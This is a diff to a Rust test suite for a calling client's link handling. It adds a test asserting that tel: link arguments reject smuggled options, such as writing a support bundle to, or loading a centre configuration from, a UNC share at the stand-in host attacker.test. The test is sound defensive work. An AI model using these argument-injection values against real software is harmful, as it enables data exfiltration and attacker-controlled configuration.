@@ -29,8 +29,30 @@ fn a_call_link_opens_the_window_even_without_a_number() {
     assert_eq!(wish(&["tel:+41445550147"]), number(Some("+41445550147")));
     assert_eq!(wish(&["CallTo:2002"]), number(Some("2002")));
     assert_eq!(wish(&["tel:"]), number(None));
-    let both = Wish::Window { practice: Some(Centre::Own(Platform::Ucce)), number: Some("2002".to_owned()) };
-    assert_eq!(wish(&["--practice", "tel:2002"]), Ok(both));
+    assert_eq!(wish(&["--", "tel:2002"]), number(Some("2002")));
+    assert_eq!(wish(&["--"]), number(None), "from a menu entry that takes links");
+}
+
+/// What a link can make of the command line, if its writer ends the quotation marks.
+#[test]
+fn a_link_admits_nothing_else() {
+    for wrong in [
+        &["--", "doctor"][..],
+        &["--", "support-bundle", r"\\attacker.test\share\a.zip"],
+        &["--", "--practice", r"\\attacker.test\share\centre.json"],
+        &["--", "--version"],
+        &["--", "centre.json"],
+        &["--", "tel:1", "tel:2"],
+        &["--", "tel:1", "--practice", r"\\attacker.test\share\centre.json"],
+        &["--", "tel:1", "support-bundle", r"\\attacker.test\share\a.zip"],
+        &["tel:1", "--practice", r"\\attacker.test\share\centre.json"],
+        &["tel:1", "support-bundle", r"\\attacker.test\share\a.zip"],
+        &["tel:1", "--language", "de"],
+        &["--practice", "tel:2002"],
+        &["--language", "de", "tel:1"],
+    ] {
+        assert!(wish(wrong).is_err(), "{wrong:?}");
+    }
 }
 
 #[test]
